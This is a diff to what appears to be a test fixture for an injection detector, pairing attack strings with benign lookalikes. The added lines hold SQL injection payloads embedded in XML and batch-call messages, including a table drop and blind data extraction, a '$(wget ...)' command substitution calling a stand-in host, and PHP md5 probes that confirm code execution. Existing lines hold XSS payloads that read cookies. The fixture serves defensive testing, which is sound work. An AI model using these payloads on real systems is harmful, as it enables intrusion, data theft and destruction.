@@ -29,6 +29,8 @@ const ATTACKS: Readonly<Record<string, readonly string[]>> = {
   "style that runs": ['"></b style="a:ex/**/pression(f(1));"', "<y///style=-moz-\\&#x362inding:url(//x.example/a)>", "</i style=behavior:url(#a#b)>", "<z style='-moz-\\62 inding:url(x)'>"],
   "elements and bindings of frameworks": ["<applet/src=http://x.example/a.html>", "<p :=_c.constructor`alert(2)`()>", "<i ng-focus=$event.composedPath()|orderBy:'(y=alert)(2)'>", "<div ng-click=\"(z=confirm)(1)\">", "<b :='_c.constructor(`eval(1)`)()'>"],
   "script that ends a call": ["500); alert(document.cookie);//", "7});prompt(1)//", "'); fetch(x);//", "0]); document.write(1); /*", "/?q=9); eval(name);//"],
+  "parts of messages that came as one text": ['<?xml version="1.0" encoding="GB2312"?><P><D format="text">select @@version</D></P>', "<?xml version='1.0'?><a><b>7</b><c>x' or 3=3 -- </c></a>", "callCount=1\npage=/a\nc0-param0=string:7 and ascii((select substring(login,1,1)from member))=65\nbatchId=0", "a=1\nc0-param0=number:7;drop table member", "<?xml version='1.0'?><a>$(wget http://x.example)</a>"],
+  "what tells a scanner that its code was run": ["print(md5(77));", "echo md5('abc');", "die(md5(7));", "var_dump(md5(123));", "');die(md5(2));//"],
   "script addresses that take a value apart": ["javascript:var{a:onerror}={a:alert};throw document.cookie", "javascript:let[a]=[alert];a`1`", "javascript%3Aconst%7Bb%3Aonload%7D%3D%7B%7D"],
 }; // biome-ignore format: one list each
 
@@ -38,6 +40,7 @@ const HONEST: Readonly<Record<string, readonly string[]>> = {
   "lines of a text": ["Hello \nx-ray: tomorrow at 9", "see www.example.com/\nopen-hours: 9-17", "shopping list \r\n- milk", "name\nsub-title: b", "Dear all, \r\nSee you"],
   addresses: ["http://[2001:db8::1]:8080/", "http://localhost:8080/", "https://example.com/0x41", "https://example.com/a/../b"],
   "pages and styles": ['<p style="color: red; -moz-user-select: none">x</p>', "</b >", '<a :href="url">x</a>', '<li :key="item.id">x</li>', '<input ng-model="a.b" ng-change="save()">', "an expression; a binding"],
+  "messages that came as one text": ['<?xml version="1.0"?><note><to>Kim</to><body>Don\'t forget the meeting; select a room</body></note>', "callCount=1\npage=/erp/list\nc0-scriptName=Orders\nc0-param0=string:O'Brien and sons\nc0-param1=number:7\nbatchId=3", "<?xml version='1.0'?><a>https://example.com/?a=b&amp;c=d</a>", "notes\nc0-param is a name"],
   "mathematics and sentences": ["(see 5); alert the team // thanks", "f(x); g(x)", "[1]; print it", "call 500); thanks", "she waved :) // and left"],
 }; // biome-ignore format: one list each
 
